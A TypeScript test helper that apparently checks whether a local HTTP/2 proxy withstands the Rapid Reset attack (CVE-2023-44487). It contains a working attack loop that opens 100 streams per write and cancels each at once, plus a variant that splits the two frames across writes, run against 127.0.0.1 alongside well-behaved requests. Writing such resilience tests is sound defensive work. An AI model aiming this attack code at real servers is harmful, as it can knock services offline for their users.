import { connect as netConnect } from 'node:net';
import { constants } from 'node:http2';
import { FrameReader, FRAME, FLAG, frame, request, rstStream, clientStart } from './h2-frames.js';

/** How one abusive connection ended: the GOAWAY error code it was sent (null: none), and the streams it opened. */
export interface AbuseResult {
  readonly goaway: number | null;
  readonly streams: number;
}

/**
 * One abusive connection to an outbound h2c port (raw frames, as CVE-2023-44487's attacker):
 * HEADERS with END_STREAM then RST_STREAM CANCEL, 100 streams per write, until the proxy
 * closes the connection or `until` (Date.now()) passes.
 * `split` sends each batch's RST_STREAMs in a later write than its HEADERS: a server that
 * drops streams reset in the read that opened them (the frame-level one,
 * `protocol.outboundHttp2: frames`) has already forwarded these, so their cancellations
 * reach the peer's app sessions as well.
 */
function abuse(port: number, host: string, until: number, split: boolean): Promise<AbuseResult> {
  return new Promise((resolve) => {
    const s = netConnect({ host: '127.0.0.1', port });
    let goaway: number | null = null;
    let streams = 0;
    let id = 1;
    const reader = new FrameReader((type, flags, _id, payload) => {
      if (type === FRAME.SETTINGS && !(flags & FLAG.ACK)) s.write(frame(FRAME.SETTINGS, FLAG.ACK, 0));
      if (type === FRAME.GOAWAY) goaway ??= payload.readUInt32BE(4);
    });
    s.on('data', (d: Buffer) => reader.push(d));
    s.on('error', () => undefined);
    s.on('close', () => resolve({ goaway, streams }));
    const batch = () => {
      if (s.destroyed || !s.writable) return;
      if (Date.now() > until) {
        // Stop sending, but read what the proxy already sent (a GOAWAY in flight) before
        // closing: destroying at once lost GOAWAYs the proxy had counted.
        s.end();
        setTimeout(() => s.destroy(), 1000).unref();
        return;
      }
      const heads: Buffer[] = [];
      const resets: Buffer[] = [];
      for (let i = 0; i < 100; i++, id += 2) {
        heads.push(request(id, host, '/echo'));
        resets.push(rstStream(id, constants.NGHTTP2_CANCEL));
      }
      streams += 100;
      const next = (ok: boolean) => {
        // A timer, not setImmediate: the attacker may share its process with the sidecars.
        if (ok) setTimeout(batch, 1);
        else s.once('drain', batch);
      };
      if (!split) return next(s.write(Buffer.concat(heads.flatMap((h, i) => [h, resets[i]!]))));
      s.write(Buffer.concat(heads));
      setTimeout(() => !s.destroyed && next(s.write(Buffer.concat(resets))), 1);
    };
    s.once('connect', () => {
      s.write(clientStart());
      batch();
    });
  });
}

/**
 * Two attackers on `port` (each reconnecting once closed) and two well-behaved callers
 * (`get`, one request at a time) for `ms`; the second attacker splits HEADERS and
 * RST_STREAM across writes. Every well-behaved request is accounted for: an error is
 * status 0.
 */
export async function rapidResetAttack(port: number, host: string, get: () => Promise<number>, ms = 4000): Promise<{ statuses: number[]; results: AbuseResult[] }> {
  const until = Date.now() + ms;
  const attacks: Promise<AbuseResult>[] = [];
  const attacker = async (split: boolean) => {
    while (Date.now() < until) {
      const a = abuse(port, host, until, split);
      attacks.push(a);
      await a;
    }
  };
  const statuses: number[] = [];
  const wellBehaved = async () => {
    while (Date.now() < until) statuses.push(await get().catch(() => 0));
  };
  await Promise.all([attacker(false), attacker(true), wellBehaved(), wellBehaved()]);
  return { statuses, results: await Promise.all(attacks) };
}
